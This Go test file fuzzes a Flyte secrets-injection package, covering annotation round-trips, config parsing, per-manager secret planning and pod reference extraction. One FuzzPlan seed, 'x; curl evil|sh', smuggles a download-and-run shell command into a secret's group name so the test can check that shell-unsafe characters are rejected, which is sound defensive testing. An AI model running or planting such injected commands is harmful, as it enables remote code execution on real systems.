package flyte

import (
	"context"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/podsecrets/podsecrets/secretspec"
)

// FuzzDecodeAnnotations decodes an annotation value (raw base32, or the base32 of the given
// text) and checks that what decodes encodes back to the same requests, and that Refs never
// panics on them.
func FuzzDecodeAnnotations(f *testing.F) {
	f.Add("nnsxsoraejwxsx2lmv3secq", false)
	f.Add("group: \"g\"\nkey: \"k\"\nmount_requirement: FILE\nenv_var: \"E\"\n", true)
	f.Add("group:'g';key:\"\\x41\\101\" # c\nmount_requirement: 1", true)
	f.Add("key: \"a\" 'b' \"\\u00e9\"", true)
	f.Fuzz(func(t *testing.T, value string, isText bool) {
		if isText {
			value = encoding().EncodeToString([]byte(value))
		}
		secrets, err := DecodeAnnotations(map[string]string{"flyte.secrets/s0": value, "flyte.secrets/s1": value, "other": value})
		if err != nil {
			if secrets != nil {
				t.Fatal("secrets returned with an error")
			}
			return
		}
		if len(secrets) != 2 || !cmp.Equal(secrets[0], secrets[1]) {
			t.Fatalf("two equal annotations gave %d requests", len(secrets))
		}
		ann, err := EncodeAnnotations(secrets)
		if err != nil {
			t.Fatalf("decoded requests do not encode: %v", err)
		}
		again, err := DecodeAnnotations(ann)
		if err != nil {
			t.Fatalf("encoded requests do not decode: %v", err)
		}
		if !cmp.Equal(secrets, again) {
			t.Fatal("encode then decode changed the requests")
		}
		ann2, err := EncodeAnnotations(again)
		if err != nil || !cmp.Equal(ann, ann2) {
			t.Fatal("encoding is not stable")
		}
		_, _, _ = Refs(secrets)
	})
}

// FuzzParseConfig checks that ParseConfig never panics, that a configuration it accepts is
// valid and serves a request, and that parsing is deterministic.
func FuzzParseConfig(f *testing.F) {
	f.Add("webhook:\n  secretManagerType: Vault\n  vaultSecretManager: {role: r, kvVersion: \"1\", annotations: {a: b}}\n")
	f.Add(`{"secretManagerType": "AWS", "awsSecretManager": {"sidecarImage": "i", "resources": {"limits": {"cpu": 1}, "claims": [{"name": "c"}]}}}`)
	f.Add("propeller: {workers: 2}\nwebhook:\n  secretManagerTypes: [GCP]\n  gcpSecretManager:\n    resources: {requests: {memory: 1Gi}}\n")
	f.Add("webhook: [\n")
	f.Add("secretManagerType: 6\ncertDir: /x\n")
	f.Fuzz(func(t *testing.T, data string) {
		cfg, err := ParseConfig([]byte(data))
		if err != nil {
			return
		}
		if errs := cfg.Validate(nil); len(errs) > 0 {
			t.Fatalf("ParseConfig accepted an invalid configuration: %v", errs)
		}
		again, err := ParseConfig([]byte(data))
		if err != nil || !cmp.Equal(cfg, again, cmpopts.IgnoreFields(Config{}, "Global")) {
			t.Fatal("ParseConfig is not deterministic")
		}
		in := []Secret{{Group: "g", Key: "k"}}
		if _, _, err := Plan(in, cfg); err != nil && cfg.SecretManagerType == ManagerK8s {
			t.Fatalf("a valid K8s configuration cannot serve a plain request: %v", err)
		}
	})
}

// shellSafe are the only characters a request may bring into a fetcher's shell command or a
// Vault template.
const shellSafe = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-./:@+="

// FuzzPlan plans two requests with every manager and checks that Plan never panics, never
// changes its input, gives the same output twice, returns only what inject.ApplyPod accepts,
// and lets nothing but shellSafe characters of a request into a shell command or template.
func FuzzPlan(f *testing.F) {
	f.Add("db", "", "pass", "", uint8(1), "x; curl evil|sh", "1", "k", "E", uint8(0))
	f.Add("arn:aws:secretsmanager:us-east-1:123456789012:secret", "", "k", "F", uint8(2), "https://v.vault.azure.net/secrets/n", "v1", "", "", uint8(0))
	f.Add("secret/data/a", "kv1", "Key", "", uint8(0), "s/b", "db", "creds.json", "", uint8(2))
	f.Fuzz(func(t *testing.T, g1, v1, k1, e1 string, m1 uint8, g2, v2, k2, e2 string, m2 uint8) {
		in := []Secret{
			{Group: g1, GroupVersion: v1, Key: k1, EnvVar: e1, MountRequirement: MountType(m1 % 4)},
			{Group: g2, GroupVersion: v2, Key: k2, EnvVar: e2, MountRequirement: MountType(m2 % 4)},
		}
		orig := append([]Secret(nil), in...)
		for _, m := range []Manager{ManagerK8s, ManagerVault, ManagerAWS, ManagerGCP, ManagerAzure} {
			cfg := configFor(m)
			cfg.Global = func(g, k string) (string, bool) { return "v", g == "global" }
			refs, x, err := Plan(in, cfg)
			if !cmp.Equal(orig, in) {
				t.Fatal("Plan changed its input")
			}
			refs2, x2, err2 := Plan(in, cfg)
			if !cmp.Equal(refs, refs2) || !cmp.Equal(x, x2) || (err == nil) != (err2 == nil) {
				t.Fatalf("%s: Plan is not deterministic", m)
			}
			if err != nil {
				continue
			}
			if _, err := applyPlan(taskPod(), in, cfg); err != nil {
				t.Fatalf("%s: inject refuses what Plan returns: %v", m, err)
			}
			if m == ManagerK8s {
				continue
			}
			for _, s := range in {
				if s.Group == "global" && s.Key != "" && s.MountRequirement != MountFile {
					continue
				}
				used := []string{s.Group, s.GroupVersion, s.Key}
				if m == ManagerGCP || m == ManagerAzure {
					used = used[:2] // the key is not used
				}
				for _, v := range used {
					if strings.Trim(v, shellSafe) != "" {
						t.Fatalf("%s: a request with characters outside the safe set was accepted", m)
					}
				}
			}
		}
	})
}

// FuzzPodRefs: for any annotations, PodRefs never panics, never modifies the pod, gives refs or
// an error (never both), every ref's Origin is one of the pod's request annotations, and a
// second call gives the same result.
func FuzzPodRefs(f *testing.F) {
	f.Add("s0", "nnsxsoraejwxsx2lmv3secq", "s3", "m4zg54lqhiqce4ltmvzc11lomzxsectlmv3tuibcovzwk3s6onswg3tfoqrau2lpovxhix2smvyxk1lsmvwwk2tuhiqektswl4lecuqk", uint8(0))
	f.Add("s1", "!", "sx", "", uint8(1))
	f.Add("s01", "nnsxsoraejwxsx2lmv3secq", "s2", "nnsxsoraejwxsx2lmv3secq", uint8(3))
	managers := []Manager{ManagerK8s, ManagerVault, ManagerAWS, ManagerGCP, ManagerAzure}
	f.Fuzz(func(t *testing.T, n1, v1, n2, v2 string, m uint8) {
		pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Annotations: map[string]string{
			AnnotationPrefix[:len(AnnotationPrefix)-1] + n1: v1, AnnotationPrefix[:len(AnnotationPrefix)-1] + n2: v2, "owner": v1,
		}}}
		before := pod.DeepCopy()
		cfg := DefaultConfig()
		cfg.SecretManagerType = managers[int(m)%len(managers)]
		refsOf := PodRefs(cfg)
		refs, x, err := refsOf(context.Background(), pod)
		if !cmp.Equal(before, pod) {
			t.Fatal("PodRefs modified the pod")
		}
		if err != nil {
			if refs != nil || !cmp.Equal(x, secretspec.Extras{}) {
				t.Fatal("a result returned with an error")
			}
			if !strings.HasPrefix(err.Error(), "flyte: ") || strings.HasPrefix(err.Error(), "flyte: flyte: ") {
				t.Fatalf("error does not start with one \"flyte: \": %v", err)
			}
			return
		}
		for _, r := range refs {
			if _, ok := pod.Annotations[r.Origin]; !ok || !strings.HasPrefix(r.Origin, AnnotationPrefix) {
				t.Fatalf("ref Origin %q is not a request annotation of the pod", r.Origin)
			}
		}
		refs2, x2, err2 := refsOf(context.Background(), pod)
		if err2 != nil || !cmp.Equal(refs, refs2) || !cmp.Equal(x, x2) {
			t.Fatal("two calls differ")
		}
	})
}
